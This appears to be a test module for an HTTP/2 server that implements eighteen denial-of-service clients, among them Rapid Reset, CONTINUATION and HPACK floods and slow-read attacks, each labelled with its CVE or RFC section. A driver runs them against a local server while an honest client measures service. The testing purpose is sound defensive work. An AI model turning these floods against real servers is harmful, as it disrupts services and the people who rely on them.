"""The hostile clients of HTTP/2, each a sequence of bytes for one connection, and the honest one.

A client has a name, the number of its advisory or of the section that it abuses, and says whether it reads.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections.abc import Callable, Iterator
from functools import partial
from typing import NamedTuple

from pronghorn.http2_constants import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    RST_STREAM,
    SETTINGS,
)
from tests.attacks.outcome import Outcome
from tests.attacks.trial import LATEST, Honest, measure
from tests.support.http2 import (
    GET,
    Frame,
    block,
    data,
    decode,
    frame,
    get,
    headers,
    literal,
    opening,
    ping,
    post,
    priority,
    rst_stream,
    settings,
    window_update,
)
from tests.support.raw_http2 import Raw
from tests.support.server import PATIENCE, Process

Bytes = Iterator[bytes]
STREAMS = range(1, 1 << 30, 2)


class Attack(NamedTuple):
    """`sends` gives the bytes of one connection after the greeting; without `reads`, nothing is read."""

    name: str
    source: str
    sends: Callable[[], Bytes]
    reads: bool = True


def rapid_reset() -> Bytes:
    for number in STREAMS:
        yield get(number, b"/hold") + rst_stream(number, CANCEL)


def made_you_reset() -> Bytes:
    for number in STREAMS:
        yield get(number, b"/hold") + window_update(number, 0)


def continuations() -> Bytes:
    yield frame(HEADERS, END_STREAM, 1, block(*GET))
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 100)) * 10


def hpack_bomb() -> Bytes:
    """A field of 4 KiB in the table, and thousands of references to it in each head."""
    kept = b"\x40" + literal(b"x", b"v" * 4000)[1:]
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block(*GET) + kept)
    for number in STREAMS[1:]:
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block(*GET) + b"\xbe" * 16000)


def cookie_crumbs() -> Bytes:
    kept = b"\x40" + literal(b"cookie", b"a=b")[1:]
    yield frame(HEADERS, END_STREAM | END_HEADERS, 1, block(*GET) + kept)
    for number in STREAMS[1:]:
        yield frame(HEADERS, END_STREAM | END_HEADERS, number, block(*GET) + b"\xbe" * 16000)


def settings_flood() -> Bytes:
    while True:
        yield settings((INITIAL_WINDOW_SIZE, 65535)) * 50


def window_churn() -> Bytes:
    """The initial window changes while many streams are open, so that each change concerns them all."""
    yield b"".join(get(number, b"/hold") for number in STREAMS[:100])
    while True:
        yield (settings((INITIAL_WINDOW_SIZE, 1)) + settings((INITIAL_WINDOW_SIZE, 65535))) * 50


def ping_flood() -> Bytes:
    while True:
        yield ping() * 50


def priority_flood() -> Bytes:
    while True:
        yield b"".join(priority(number) for number in STREAMS[:50])


def window_update_flood() -> Bytes:
    yield post(1)
    while True:
        yield window_update(1, 1) * 50 + window_update(0, 1) * 50


def empty_data() -> Bytes:
    yield post(1)
    while True:
        yield data(1) * 50


def padding() -> Bytes:
    yield post(1)
    while True:
        yield frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 20


def tiny_data() -> Bytes:
    """Bodies in frames of one byte, which nobody reads."""
    for number in STREAMS[:100]:
        yield post_to(number, b"/hold") + data(number, b"x") * 5000
    yield from silence()


def unread_bodies() -> Bytes:
    """As much as the window of the connection admits."""
    for number in STREAMS[:16]:
        yield post_to(number, b"/hold") + data(number, b"x" * 16000) * 4
    yield from silence()


def slow_read_of_streams() -> Bytes:
    """Large answers to many streams whose windows stay closed."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    yield b"".join(get(number, b"/large") for number in STREAMS[:100])
    yield from silence()


def slow_read_of_socket() -> Bytes:
    yield settings((INITIAL_WINDOW_SIZE, 0x7FFFFFFF)) + window_update(0, 0x7FFF0000 - 65535)
    yield b"".join(get(number, b"/large") for number in STREAMS[:100])
    yield from silence()


def slow_head() -> Bytes:
    head = get(1, b"/", (b"x", b"y" * 1000))
    for at in range(len(head) - 1):
        yield head[at : at + 1]
        time.sleep(0.05)
    yield from silence()


def silence() -> Bytes:
    while True:
        time.sleep(0.05)
        yield b""


def post_to(number: int, path: bytes) -> bytes:
    return headers(number, (b":method", b"POST"), *GET[1:3], (b":path", path), ends=False)


ATTACKS = (
    Attack("Rapid Reset", "CVE-2023-44487", rapid_reset),
    Attack("MadeYouReset", "CVE-2025-8671", made_you_reset),
    Attack("CONTINUATION flood", "CVE-2024-27316", continuations),
    Attack("HPACK bomb", "CVE-2016-6581", hpack_bomb),
    Attack("cookie crumbs", "CVE-2026-49975", cookie_crumbs),
    Attack("SETTINGS flood", "CVE-2019-9515", settings_flood),
    Attack("window churn", "RFC 9113 section 6.9.2", window_churn),
    Attack("PING flood", "CVE-2019-9512", ping_flood),
    Attack("PRIORITY flood", "CVE-2019-9513", priority_flood),
    Attack("WINDOW_UPDATE flood", "RFC 9113 section 10.5", window_update_flood),
    Attack("empty DATA", "CVE-2019-9518", empty_data),
    Attack("padding", "RFC 9113 section 10.7", padding),
    Attack("tiny DATA", "RUSTSEC-2026-0258", tiny_data),
    Attack("unread bodies", "RFC 9113 section 10.5", unread_bodies),
    Attack("slow read of streams", "CVE-2016-1546", slow_read_of_streams),
    Attack("slow read of the socket", "CVE-2019-9517", slow_read_of_socket, reads=False),
    Attack("unread answers", "CVE-2019-9512", ping_flood, reads=False),
    Attack("slow head", "CVE-2026-56853", slow_head),
)


def attack(chosen: Attack, port: int, connections: int, seconds: float) -> int:
    """Attack the server at `port` for so many seconds. Connections that end are opened again.

    Return how many were opened.
    """
    until = time.monotonic() + seconds
    opened = 0
    sockets: list[tuple[socket.socket, Bytes, bytearray]] = []
    while time.monotonic() < until:
        while len(sockets) < connections:
            opened += 1
            made = socket.create_connection(("127.0.0.1", port), timeout=PATIENCE)
            made.setblocking(False)
            sockets.append((made, chosen.sends(), bytearray(opening())))
        for each in list(sockets):
            if not _step(*each, chosen.reads):
                sockets.remove(each)
                each[0].close()
    for each in sockets:
        each[0].close()
    return opened


def _step(made: socket.socket, sends: Bytes, waiting: bytearray, reads: bool) -> bool:
    """Send and read what is possible at once. Return false if the connection has ended."""
    try:
        if not waiting:
            waiting += next(sends, b"")
        if waiting:
            with contextlib.suppress(BlockingIOError):
                del waiting[: made.send(waiting)]
        if reads:
            with contextlib.suppress(BlockingIOError):
                return bool(made.recv(65536))
    except OSError:
        return False
    return True


class HonestHTTP2(Honest):
    """A client that sends all its requests over one connection, while that lasts."""

    def __init__(self, port: int, rate: int) -> None:
        super().__init__(rate)
        self._port = port
        self._number = -1

    def ask(self) -> None:
        if self._connection is None:
            self._connection = Raw(("127.0.0.1", self._port), timeout=LATEST)
            self._connection.send(frame(SETTINGS, ACK))
            self._number = -1
        self._number += 2
        self._connection.send(get(self._number))
        while not self._is_answered_by(self._connection.read()):
            pass

    def _is_answered_by(self, each: Frame | None) -> bool:
        """Return whether the answer ends with this frame; raise ConnectionError if it is a failure."""
        if each is None or (each.kind == GOAWAY and each.last < self._number):
            raise ConnectionError
        if each.kind == PING and not each.flags & ACK:
            self._connection.send(ping(each.payload, ACK))
        if each.stream != self._number:
            return False
        if each.kind == RST_STREAM or (each.kind == HEADERS and decode(each.payload)[0] != (b":status", b"200")):
            raise ConnectionError
        return each.ends


def under(server: Process, chosen: Attack | None, connections: int, seconds: float, rate: int) -> Outcome:
    """Attack the server, unless `chosen` is None, and measure an honest client meanwhile."""
    hostile = partial(attack, chosen, server.port, connections, seconds) if chosen else None
    return measure(hostile, HonestHTTP2(server.port, rate), seconds, server.memory)
